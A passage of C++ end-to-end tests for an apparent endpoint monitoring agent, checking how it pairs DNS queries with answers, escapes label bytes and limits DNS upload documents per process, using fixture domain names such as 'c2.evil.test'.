        r.type = 11, r.dns_name.clear(), r.dns_msg = dns_answer(7, name, last);
        inject(build_conn(r));
    };
    auto names = [] {
        std::string out;
        for (auto &d : docs(UPLOAD_DNS_QUERY))
            out += value_of(d, "query_name") + "=" + value_of(d, "query_results") + " ";
        return out;
    };
    ask("c2.evil.test");
    ask("decoy.example.test");
    ASSERT_TRUE(wait_for([] { return pending_queries() == 2; }));
    answer("decoy.example.test", 1);
    answer("c2.evil.test", 2);
    ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 2; })) << names();
    EXPECT_EQ(names(), "decoy.example.test=192.0.2.1 c2.evil.test=192.0.2.2 ");
    EXPECT_EQ(value_of(docs(UPLOAD_DNS_QUERY)[0], "community_id"),
              "1:k3sbwxMtqEbMueEj3RlcxlST76M=");
    // Unanswered, each goes out after its time-out; a third finds the table full and goes
    // out at once, still reported as sent.
    g_net_config.upload_time_interval = 0;  // the first round's names are no repeats
    ask("c2.evil.test");
    ask("decoy.example.test");
    q.sport = 42001;
    ask("third.evil.test");
    ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 3; })) << names();
    EXPECT_EQ(kiv_stat_get(NET_DNSQ_FULL_SENT), 1);
    advance(8000);
    ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 5; })) << names();
    // Unanswered, the server asked is the result; over TCP a query is no connection.
    EXPECT_TRUE(has(names(), "c2.evil.test=127.0.0.1 ")) << names();
    EXPECT_EQ(count(UPLOAD_NET_CONNECT), 0u);

    // Off: the second replaces the first, which is counted as merged.
    host_stop();
    start("dns_pair_by_name = 0\ncommunity_id = 0\n");
    q.sport = 42002;
    ask("c2.evil.test");
    ask("decoy.example.test");
    ASSERT_TRUE(wait_for([] { return kiv_stat_get(NET_DNSQ_UPLOAD_MERGE) == 1; }));
    answer("c2.evil.test", 2);
    ASSERT_TRUE(wait_for([] { return kiv_stat_get(NET_DNSA_PARSE_FAIL) == 1; }));
    advance(8000);
    ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 1; }));
    EXPECT_EQ(names(), "decoy.example.test=127.0.0.1 ");
    // Without the Community ID the document is as it always was: the server only as its result.
    for (const char *key : {"community_id", "dst_ip", "dst_port", "protocol"})
        EXPECT_EQ(value_of(docs(UPLOAD_DNS_QUERY)[0], key), "") << key;
}

// A name with a blank in a label, as a kernel that copies label bytes names the query: with
// dns_name_escape the document shows it escaped, and the answer, parsed into that form,
// still pairs with the raw query; without, both are the raw bytes.
TEST_F(NetE2E, DnsNamesPairInEitherFormAndPrintAsTheKeySays) {
    for (int escape : {0, 1}) {
        SCOPED_TRACE(escape);
        start("dns_pair_by_name = 1\ndns_name_escape = " + std::to_string(escape) + "\n");
        conn_rec q;
        q.type = 10, q.proto = 6, q.sip = "127.0.0.1", q.sport = 43000, q.dip = "127.0.0.1";
        q.dport = 53, q.dns_name = "my host.example.test";
        inject(build_conn(q));
        conn_rec r = q;
        r.type = 11, r.dns_name.clear(), r.dns_msg = dns_answer(7, q.dns_name, 9);
        inject(build_conn(r));
        ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 1; }));
        const std::string d = docs(UPLOAD_DNS_QUERY)[0];
        EXPECT_EQ(value_of(d, "query_name"),
                  escape ? "my\\\\032host.example.test" : "my host.example.test");
        EXPECT_EQ(value_of(d, "query_results"), "192.0.2.9");
        host_stop();
    }
}

}  // namespace

// DNS documents are limited per process and minute: the flooding process loses its own,
// another process keeps its, a dropped name goes out in the next minute. At 0 nothing is.
TEST_F(NetE2E, DnsDocumentsLimitedPerProcess) {
    start("dns_upload_per_proc = 3\n");
    taken_limit_drops();
    ASSERT_EQ(inject_root_process(301, 5301, "/usr/bin/other", "/nonexistent/other"), KEMU_OK);
    ASSERT_TRUE(wait_for([] { return count(UPLOAD_PROC_EXEC) == 1; }));
    conn_rec q;
    q.type = 10, q.proto = 6, q.dport = 53;
    auto flood = [&](uint32_t pid, int n, const std::string &tag) {
        q.pid = pid, q.create_time = 5000 + pid;
        for (int i = 0; i < n; i++) {
            q.sport = (uint16_t)(43000 + pid * 10 + i);
            q.dns_name = tag + std::to_string(i) + ".test";
            inject(build_conn(q));
        }
    };
    flood(300, 5, "flood");
    flood(301, 2, "other");
    ASSERT_TRUE(wait_for([] { return pending_queries() == 7; }));
    advance(8000);
    ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 5; }));
    EXPECT_EQ(kiv_stat_get(NET_DNS_PROC_LIMIT), 2);
    EXPECT_EQ(taken_limit_drops(), "NET_DNS_PROC_LIMIT 0 exe /nonexistent/client +2\n");
    net_limit_minute();
    flood(300, 5, "flood");
    advance(8000);
    ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 7; }));
    g_net_config.dns_upload_per_proc = 0;
    flood(300, 8, "more");
    advance(8000);
    ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 15; }));
    EXPECT_EQ(kiv_stat_get(NET_DNS_PROC_LIMIT), 2);
}
